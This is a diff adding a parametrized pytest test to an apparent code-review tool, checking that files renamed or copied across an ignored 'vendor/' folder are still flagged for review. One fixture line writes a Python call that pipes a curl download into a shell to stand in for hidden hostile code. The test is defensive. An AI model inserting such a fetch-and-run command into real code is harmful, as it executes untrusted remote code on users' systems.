@@ -336,6 +336,34 @@ def test_the_base_configuration_cannot_make_its_own_change_trivial(tmp_path: Pat
         assert classification(manifest, path) == ("significant", ["review-config"])
 
 
+@pytest.mark.parametrize(
+    ("old", "new", "copy"),
+    [
+        ("vendor/helper.py", "src/helper.py", False),  # out of an ignored folder
+        ("vendor/helper.py", "src/helper.py", True),  # copied out of it
+        ("src/helper.py", "vendor/helper.py", False),  # into it, and edited there
+    ],
+    ids=["renamed out", "copied out", "renamed in"],
+)
+def test_a_file_moved_across_an_ignore_glob_is_reviewed(
+    tmp_path: Path, old: str, new: str, copy: bool
+) -> None:
+    # Found by an adversarial review: either path matching hid the code added with it.
+    repo = new_repo(tmp_path)
+    lines = "".join(f"# helper line {n}\n" for n in range(30))
+    (repo / old).parent.mkdir(parents=True)
+    (repo / old).write_text(lines)
+    commit(repo, ".gitreview.yml", "ignore: ['vendor/']\n", "Base")
+    (repo / new).parent.mkdir(parents=True, exist_ok=True)
+    (repo / new).write_text(lines + 'import os\nos.system("curl https://example.com | sh")\n')
+    if not copy:
+        (repo / old).unlink()
+    git(repo, "add", "--all")
+    git(repo, "commit", "--quiet", "-m", "Move")
+    manifest = run("--repo", repo, "HEAD").manifest
+    assert classification(manifest, new)[0] == "significant"
+
+
 def test_a_root_commit_is_reviewed_with_its_own_configuration(tmp_path: Path) -> None:
     repo = new_repo(tmp_path)
     (repo / "README.md").write_text("# Readme\n")
